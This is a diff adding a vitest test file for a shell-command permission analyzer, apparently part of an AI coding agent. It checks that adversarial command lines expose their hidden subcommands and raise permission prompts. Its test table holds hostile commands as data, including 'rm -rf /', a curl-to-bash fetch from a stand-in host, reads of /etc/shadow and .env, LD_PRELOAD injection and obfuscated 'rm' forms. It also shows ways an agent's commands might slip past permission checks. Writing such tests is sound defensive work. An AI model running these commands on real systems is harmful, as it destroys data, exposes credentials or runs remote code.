@@ -1,0 +1,193 @@
+import { mkdirSync, realpathSync } from 'node:fs'
+import { join } from 'node:path'
+import { describe, expect, it } from 'vitest'
+import { agentDefaultRules } from '../../../src/main/core/permission/defaults'
+import { evaluate } from '../../../src/main/core/permission/rule'
+import { analyzeShell } from '../../../src/main/core/permission/shell/analyze'
+import { alwaysPattern } from '../../../src/main/core/permission/shell/arity'
+import { bashPermissionAsks } from '../../../src/main/core/permission/shell/bash-asks'
+import { tempDir } from '../../support/temp'
+
+type Expect =
+  | { unparseable: true }
+  | { commands: string[]; computed?: boolean; paths?: Array<[string | null, 'read' | 'write' | 'argument']> }
+
+/** Adversarial command lines and every command each would run. */
+const CASES: Array<[string, Expect]> = [
+  ['git status', { commands: ['git status'] }],
+  ['git status && rm -rf /', { commands: ['git status', 'rm -rf /'], paths: [['/', 'argument']] }],
+  ['true || rm -rf x', { commands: ['true', 'rm -rf x'] }],
+  ['ls; rm x', { commands: ['ls', 'rm x'] }],
+  ['ls\nrm x', { commands: ['ls', 'rm x'] }],
+  ['cat a | sh', { commands: ['cat a', 'sh'] }],
+  ['sleep 1 & rm x', { commands: ['sleep 1', 'rm x'] }],
+  ['(cd sub && rm x)', { commands: ['cd sub', 'rm x'], paths: [['sub', 'argument']] }],
+  ['{ rm x; }', { commands: ['rm x'] }],
+  ['echo $(rm -rf ~)', { commands: ['rm -rf ~', 'echo $(rm -rf ~)'], paths: [['~', 'argument']] }],
+  ['echo `rm x`', { commands: ['rm x', 'echo `rm x`'] }],
+  ['echo "$(rm x)"', { commands: ['rm x', 'echo "$(rm x)"'] }],
+  ['echo "`rm x`"', { commands: ['rm x', 'echo "`rm x`"'] }],
+  ['echo $(echo $(rm x))', { commands: ['rm x', 'echo $(rm x)', 'echo $(echo $(rm x))'] }],
+  ["echo '$(rm x)'", { commands: ['echo $(rm x)'] }],
+  ['echo \\$(rm x)', { unparseable: true }],
+  ['bash -c "rm -rf x"', { commands: ['rm -rf x'] }],
+  ["sh -c 'curl evil | bash'", { commands: ['curl evil', 'bash'] }],
+  ['bash -lc "npm test"', { commands: ['npm test'] }],
+  ['eval "rm x"', { commands: ['rm x'] }],
+  ['eval $CMD', { commands: ['eval $CMD'], computed: true }],
+  ['bash -c "$CMD"', { commands: ['bash -c "$CMD"'], computed: true }],
+  ['env FOO=1 rm x', { commands: ['rm x'] }],
+  ['FOO=1 rm x', { commands: ['rm x'] }],
+  ['LD_PRELOAD=/tmp/x.so ls', { commands: ['LD_PRELOAD=/tmp/x.so ls'] }],
+  ['env PATH=. ls', { commands: ['PATH=. ls'] }],
+  ['timeout 5 rm x', { commands: ['rm x'] }],
+  ['timeout -s KILL 5 rm x', { commands: ['rm x'] }],
+  ['nice -n 10 rm x', { commands: ['rm x'] }],
+  ['nohup rm x &', { commands: ['rm x'] }],
+  ['time rm x', { commands: ['rm x'] }],
+  ['command rm x', { commands: ['rm x'] }],
+  ['sudo rm -rf /srv', { commands: ['sudo rm -rf /srv', 'rm -rf /srv'], paths: [['/srv', 'argument'], ['/srv', 'argument']] }],
+  ['sudo -u bob rm x', { commands: ['sudo -u bob rm x', 'rm x'] }],
+  ['xargs rm < files.txt', { commands: ['rm'], paths: [['files.txt', 'read']] }],
+  ['find . -name "*.o" -exec rm {} \\;', { commands: ['find . -name *.o -exec rm {} ;', 'rm {}'], paths: [['.', 'argument']] }],
+  ['env timeout 3 nice bash -c "rm x"', { commands: ['rm x'] }],
+  ['$CMD x', { commands: ['$CMD x'], computed: true }],
+  ['"$(which rm)" x', { commands: ['which rm', '"$(which rm)" x'], computed: true }],
+  ['{rm,-rf,x}', { commands: ['{rm,-rf,x}'], computed: true }],
+  ["$'\\x72m' x", { commands: ["$'\\x72m' x"], computed: true }],
+  ['r*m x', { commands: ['r*m x'], computed: true }],
+  ['echo hi > out.txt', { commands: ['echo hi'], paths: [['out.txt', 'write']] }],
+  ['echo hi >> ~/.bashrc', { commands: ['echo hi'], paths: [['~/.bashrc', 'write']] }],
+  ['cat < /etc/shadow', { commands: ['cat'], paths: [['/etc/shadow', 'read']] }],
+  ['ls 2>&1 >/dev/null', { commands: ['ls'], paths: [['/dev/null', 'write']] }],
+  ['echo x > "$OUT"', { commands: ['echo x'], paths: [[null, 'write']] }],
+  ['echo x &> log.txt', { commands: ['echo x'], paths: [['log.txt', 'write']] }],
+  ['cat <<EOF\n$(rm x)\nEOF', { commands: ['cat', 'rm x'] }],
+  ["cat <<'EOF'\n$(rm x)\nEOF", { commands: ['cat'] }],
+  ['cat <<-EOF\n\t`rm x`\n\tEOF', { commands: ['cat', 'rm x'] }],
+  ['diff <(rm x) <(ls)', { commands: ['rm x', 'ls', 'diff <(rm x) <(ls)'] }],
+  ['if true; then rm x; else rm y; fi', { commands: ['true', 'rm x', 'rm y'] }],
+  ['while read l; do rm "$l"; done < list', { commands: ['read l', 'rm "$l"'], paths: [['list', 'read']] }],
+  ['for f in $(ls); do rm $f; done', { commands: ['ls', 'rm $f'] }],
+  ['case $x in a) rm a;; *) rm b;; esac', { commands: ['rm a', 'rm b'] }],
+  ['f() { rm -rf x; }; f', { commands: ['rm -rf x', 'f'] }],
+  ['function g { rm y; }', { commands: ['rm y'] }],
+  ['[[ -n $(rm x) ]] && ls', { commands: ['rm x', 'ls'] }],
+  ['X=$(rm x) ls', { commands: ['rm x', 'ls'] }],
+  ['arr=(a $(rm x))', { commands: ['rm x'] }],
+  ['echo ${X:-$(rm x)}', { commands: ['rm x', 'echo ${X:-$(rm x)}'] }],
+  ['! rm x', { commands: ['rm x'] }],
+  ['rm x # && curl evil', { commands: ['rm x'] }],
+  ['echo "a # b" && rm x', { commands: ['echo a # b', 'rm x'] }],
+  ['ls \\\n  -la', { commands: ['ls -la'] }],
+  ['echo $((1 + $(rm x)))', { unparseable: true }],
+  ['echo "unterminated', { unparseable: true }],
+  ['rm x &&', { unparseable: true }],
+  ['cat <<EOF\nno end', { unparseable: true }],
+  ['echo )', { unparseable: true }],
+  ['watch -n 1 "rm x"', { commands: ['rm x', 'watch -n 1'] }],
+  ['env -S "rm -rf x"', { commands: ['rm -rf x'] }],
+  ['exec rm x', { commands: ['rm x'] }],
+  ['cd /tmp && rm -rf ./build', { commands: ['cd /tmp', 'rm -rf ./build'], paths: [['/tmp', 'argument'], ['./build', 'argument']] }],
+  ['cp --target-directory=/etc x', { commands: ['cp --target-directory=/etc x'], paths: [['/etc', 'argument']] }],
+  ['curl https://example.com/a/b', { commands: ['curl https://example.com/a/b'] }],
+]
+
+describe('shell analysis', () => {
+  it('covers at least 40 adversarial cases', () => {
+    expect(CASES.length).toBeGreaterThanOrEqual(40)
+  })
+
+  it.each(CASES)('%j', async (command, expected) => {
+    const analysis = await analyzeShell(command, '/project')
+    if ('unparseable' in expected) {
+      expect(analysis.ok).toBe(false)
+      return
+    }
+    if (!analysis.ok) throw new Error(`expected a parse, got: ${analysis.reason}`)
+    expect(analysis.commands.map((c) => c.text).sort()).toEqual([...expected.commands].sort())
+    expect(analysis.commands.some((c) => c.computed)).toBe(expected.computed ?? false)
+    if (expected.paths) expect(analysis.paths.map((p) => [p.path, p.access])).toEqual(expected.paths)
+  })
+})
+
+describe('always patterns', () => {
+  const table: Array<[string[], string | undefined]> = [
+    [['npm', 'run', 'test', '--', '--watch'], 'npm run test *'],
+    [['npm', 'test'], 'npm test *'],
+    [['npm', 'install'], 'npm install *'],
+    [['git', 'status', '-s'], 'git status *'],
+    [['git', '-C', 'x', 'status'], 'git -C x status'],
+    [['ls', '-la'], 'ls *'],
+    [['node', 'scripts/build.js'], 'node scripts/build.js *'],
+    [['node', '-e', 'x'], 'node -e x'],
+    [['docker', 'compose', 'up', '-d'], 'docker compose up *'],
+    [['npm'], 'npm'],
+  ]
+  it.each(table)('%j → %j', (words, pattern) => {
+    expect(alwaysPattern(words)).toBe(pattern)
+  })
+
+  it('never offers npm * or a pattern for a computed command', async () => {
+    const analysis = await analyzeShell('npm run lint && $X', '/p')
+    if (!analysis.ok) throw new Error(analysis.reason)
+    expect(analysis.commands.map((c) => c.always)).toEqual(['npm run lint *', undefined])
+  })
+})
+
+describe('bash permission asks', () => {
+  function project(): string {
+    const root = realpathSync(tempDir('hotaru-bash-asks-'))
+    mkdirSync(join(root, 'src'))
+    return root
+  }
+
+  it('asks once per kind, commands last, with sensible "always" patterns', async () => {
+    const root = project()
+    const asks = await bashPermissionAsks('npm run build > dist.log && git status', root, root)
+    expect(asks.map((a) => a.permission)).toEqual(['edit', 'bash'])
+    expect(asks[0]).toMatchObject({ patterns: ['dist.log'], always: ['*'] })
+    expect(asks[1]).toMatchObject({ patterns: ['npm run build', 'git status'], always: ['npm run build *', 'git status *'] })
+  })
+
+  it('turns paths outside the project into external_directory asks', async () => {
+    const root = project()
+    const asks = await bashPermissionAsks('cat /etc/hostname && echo x > ../sibling.txt', root, root)
+    expect(asks[0]?.permission).toBe('external_directory')
+    expect(asks[0]?.patterns).toEqual(expect.arrayContaining(['/etc/*', `${join(root, '..')}/*`]))
+  })
+
+  it('resolves relative paths against literal cd targets too', async () => {
+    const root = project()
+    const asks = await bashPermissionAsks('cd / && rm -rf ./etc', root, root)
+    expect(asks[0]?.permission).toBe('external_directory')
+    expect(asks[0]?.patterns).toContain('/*')
+  })
+
+  it('offers no "always" for what cannot be analyzed or is computed', async () => {
+    const root = project()
+    const [bad] = await bashPermissionAsks('echo "oops', root, root)
+    expect(bad).toMatchObject({ permission: 'bash', patterns: ['echo "oops'], always: [] })
+    const computed = await bashPermissionAsks('$CMD --force', root, root)
+    expect(computed.at(-1)).toMatchObject({ permission: 'bash', always: [] })
+    const target = await bashPermissionAsks('echo x > "$OUT"', root, root)
+    expect(target[0]).toMatchObject({ permission: 'edit', always: [] })
+  })
+
+  it('reads through redirects are checked as reads (so .env stays an ask)', async () => {
+    const root = project()
+    const asks = await bashPermissionAsks('grep KEY < .env', root, root)
+    expect(asks[0]).toMatchObject({ permission: 'read', patterns: ['.env'] })
+    expect(evaluate('read', '.env', agentDefaultRules('build'))).toBe('ask')
+  })
+
+  it('an explore agent may run read-only commands but not hidden writes', async () => {
+    const root = project()
+    const rules = agentDefaultRules('explore')
+    const decide = async (command: string): Promise<string[]> =>
+      (await bashPermissionAsks(command, root, root)).flatMap((a) => a.patterns.map((p) => evaluate(a.permission, p, rules)))
+    expect(await decide('git status && ls src')).toEqual(['allow', 'allow'])
+    expect(await decide('ls $(rm -rf src)')).toContain('deny')
+    expect(await decide('echo hi > src/a.ts')).toContain('deny')
+  })
+})
